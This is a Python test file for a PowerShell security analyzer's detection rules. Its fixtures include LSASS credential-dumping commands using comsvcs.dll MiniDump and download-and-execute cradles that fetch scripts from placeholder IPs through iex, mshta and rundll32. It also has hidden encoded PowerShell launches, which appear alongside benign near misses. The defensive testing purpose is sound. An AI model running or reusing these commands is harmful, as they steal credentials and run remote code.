"""Focused cases for what the blind5h corpus (admin, tradecraft, PowerShell 7, broken, clean scripts written
from PSScriptAnalyzer's sources and ATT&CK) found: one test per fixed miss or false finding, each with a near
miss that must stay as it is."""

from __future__ import annotations

import pytest

from tests.unit.analyzer.corpus_cases import analyze, hits, lines_of


def test_parameters_added_in_powershell_6_and_7_need_powershell_7() -> None:
    result = analyze("""
        Import-Module -Name ServerManager -UseWindowsPowerShell
        Import-Module -Name ServerManager -Force
        $rows | Export-Csv -Path C:\\r.csv -IncludeTypeInformation
        $rows | Export-Csv -Path C:\\r.csv -NoTypeInformation
    """)
    assert lines_of(result, "PSUseCompatibleCommands") == [1, 3]
    assert {f.detail for f in hits(result, "PSUseCompatibleCommands")} == {"PSCompatibilityPowerShell7Parameter"}


@pytest.mark.parametrize("dump", [
    "& rundll32.exe $dll, MiniDump $lsass.Id $out full",
    "rundll32 $dll, MiniDump $lsass.Id $out full",
    "rundll32.exe $dll, '#24' $lsass.Id $out full",
])
def test_comsvcs_minidump_with_the_dll_in_a_variable_is_credential_dumping(dump: str) -> None:
    result = analyze(f"""
        $lsass = Get-Process -Name lsass
        $out = 'C:\\Windows\\Temp\\d.dmp'
        $dll = "$env:SystemRoot\\System32\\comsvcs.dll"
        {dump}
    """)
    assert lines_of(result, "PSCredentialDumping") == [4]


def test_comsvcs_by_ordinal_on_one_line_is_credential_dumping() -> None:
    result = analyze("""
        $id = (Get-Process lsass).Id
        rundll32.exe C:\\Windows\\System32\\comsvcs.dll, '#24' $id C:\\temp\\l.dmp full
    """)
    assert lines_of(result, "PSCredentialDumping") == [2]


@pytest.mark.parametrize("dll", ["$env:SystemRoot\\System32\\shell32.dll", "$env:SystemRoot\\System32\\comsvcs.dll"])
def test_rundll32_with_another_dll_or_export_is_no_dump(dll: str) -> None:
    result = analyze(f"""
        $lsass = Get-Process -Name lsass
        $dll = "{dll}"
        rundll32.exe $dll, Control_RunDLL $lsass.Id
        rundll32.exe "$env:SystemRoot\\System32\\shell32.dll", MiniDump $lsass.Id
    """)
    assert lines_of(result, "PSCredentialDumping") == []


def test_an_inline_script_run_by_mshta_is_no_download_unless_it_fetches_a_url() -> None:
    result = analyze("""
        $a = New-ScheduledTaskAction -Execute 'mshta.exe' -Argument 'vbscript:Execute("CreateObject(""WScript.Shell"").Run ""powershell -nop -f C:\\ProgramData\\u.ps1"", 0:close")'
        mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""powershell -nop -f C:\\ProgramData\\u.ps1"",0:close")
        $b = New-ScheduledTaskAction -Execute 'mshta.exe' -Argument 'vbscript:Execute("CreateObject(""WScript.Shell"").Run ""powershell -c iex(iwr http://198.51.100.7/a.ps1)"", 0:close")'
        rundll32.exe 'javascript:"\\..\\mshtml,RunHTMLApplication ";document.write();GetObject("script:http://198.51.100.7/r.sct")'
    """)
    assert lines_of(result, "PSDownloadCradle") == [3, 4]


@pytest.mark.parametrize(("program", "arguments", "expected"), [
    ('"$env:windir\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"', '"-NoP -W Hidden -enc $enc"', [4]),
    ("'pwsh'", "@('-NonInteractive', '-EncodedCommand', $enc)", [4]),
    ("'powershell.exe'", "'-NoProfile -File C:\\Scripts\\run.ps1 -e $enc'", []),  # -e is the script's own
    ("'notepad.exe'", "'-enc C:\\notes.txt'", []),
])
def test_a_hashtable_splatted_into_start_process_is_read_as_its_parameters(
        program: str, arguments: str, expected: list[int]) -> None:
    result = analyze(f"""
        $enc = 'UwB0AGEAcgB0AC0AUwBsAGUAZQBwACAALQBTAGUAYwBvAG4AZABzACAAMwAwAA=='
        $psi = @{{
            FilePath     = {program}
            ArgumentList = {arguments}
            WindowStyle  = 'Hidden'
        }}
        Start-Process @psi
    """)
    assert lines_of(result, "PSEncodedCommand") == expected


def test_a_hashtable_not_splatted_into_start_process_is_no_process() -> None:
    result = analyze("""
        $psi = @{ FilePath = 'powershell.exe'; ArgumentList = '-NoP -enc UwB0AGEAcgB0AC0AUwBsAGUAZQBw' }
        $psi | ConvertTo-Json | Out-File C:\\temp\\p.json
        Invoke-Command @psi
    """)
    assert lines_of(result, "PSEncodedCommand") == []


def test_content_a_function_returns_is_followed_to_its_callers_execution() -> None:
    result = analyze("""
        function Get-Stage {
            param([string]$Uri)
            try { return Invoke-RestMethod -Uri $Uri -TimeoutSec 15 } catch { Start-Sleep 5 }
        }
        function Get-Body([string]$Uri) {
            $body = (New-Object Net.WebClient).DownloadString($Uri)
            return $body
        }
        $payload = Get-Stage -Uri 'http://198.51.100.47:8080/upd'
        if ($payload) { Invoke-Expression -Command $payload }
        iex (Get-Body 'http://198.51.100.4/a')
    """)
    assert lines_of(result, "PSDownloadCradle") == [3, 6]


def test_content_a_function_returns_to_callers_that_only_read_it_is_no_cradle() -> None:
    result = analyze("""
        function Get-Config {
            param([string]$Uri)
            return Invoke-RestMethod -Uri $Uri
        }
        function Invoke-Step([string]$Uri) {
            $data = Invoke-RestMethod -Uri $Uri
            Write-Output $data.Name
            return 'done'
        }
        $cfg = Get-Config -Uri 'https://api.example.com/config'
        $state = Invoke-Step -Uri 'https://api.example.com/step'
        Invoke-Expression -Command "Write-Output $($state.Length)"
        Write-Output $cfg.Name
    """)
    assert lines_of(result, "PSDownloadCradle") == []


@pytest.mark.parametrize(("script", "expected"), [
    ("""
        param(
            [string]$CsvPath = '.\\service-accounts.csv'
            [switch]$ReportOnly
        )
        Import-Csv -Path $CsvPath
    """, [2, 4]),
    ("""
        param(
            [string]$A,
            [switch]$B   # no comma after this one
            [Parameter(Mandatory)]
            [int]$C
        )
        $A, $B, $C
    """, [3, 6]),
    # In a function, the `)` also ends the function's block: its `{` is unclosed and its `}` unexpected.
    ("""
        function Reset-Flag {
            param(
                $CsvPath
                [switch]$ReportOnly
            )
            Import-Csv -Path $CsvPath
        }
        Reset-Flag
    """, [1, 3, 5, 7]),
    # A function's own parameter list: its body's `{` comes after the `)`, nothing else is open.
    ("""
        function Copy-Report([string]$Path
            [string]$Destination) {
            Copy-Item $Path $Destination
        }
        Copy-Report a b
    """, [1, 2]),
])
def test_a_parameter_list_missing_a_comma_is_reported_where_powershell_reports_it(
        script: str, expected: list[int]) -> None:
    assert lines_of(analyze(script), "PSParseError") == expected


@pytest.mark.parametrize("script", [
    """
        param(
            [Parameter(Mandatory)]
            [ValidateScript({ Test-Path $_ })]
            [string]$Path,
            [string]$Name =
                'default',
            [hashtable]$Map = @{
                a = 1
            }
        )
        $Path, $Name, $Map
    """,
    "param(\n    [string]$A = 'x'  # the path\n)\n$A",
])
def test_a_parameter_list_with_its_commas_is_no_parse_error(script: str) -> None:
    assert lines_of(analyze(script), "PSParseError") == []


def test_another_error_after_a_complete_parameter_list_stays_where_it_was() -> None:
    result = analyze("""
        param(
            [string]$A = 'x'
        )
        $A = (1 +
    """)
    assert [f.line for f in hits(result, "PSParseError")] == [4]
    assert not any("comma" in f.message for f in hits(result, "PSParseError"))


def test_a_default_value_continued_by_an_operator_is_no_missing_comma() -> None:
    result = analyze("""
        param(
            [bool]$A = $env:X -and
                $env:Y,
            [string]$B = $env:TEMP +
                $env:Z,
            [string]$C = 'x'
            [int]$D
        )
        $A, $B, $C, $D
    """)
    assert lines_of(result, "PSParseError") == [6, 8]


def test_content_a_function_outputs_is_followed_to_its_callers_execution() -> None:
    result = analyze("""
        function Get-Payload { (New-Object Net.WebClient).DownloadString($u) }
        function Get-Stage {
            param($Uri)
            try {
                Invoke-RestMethod -Uri $Uri
            } catch { $null }
        }
        function Save-Page { $p = Invoke-WebRequest -Uri 'https://e.example.com'; $p.Content | Out-File x.html }
        function Get-Config { Invoke-RestMethod -Uri 'https://api.example.com/config' }
        IEX (Get-Payload)
        Get-Stage -Uri 'http://198.51.100.2/s' | Invoke-Expression
        Save-Page
        Invoke-Expression 'Get-Date'
        (Get-Config).Name
    """)
    assert lines_of(result, "PSDownloadCradle") == [1, 5]
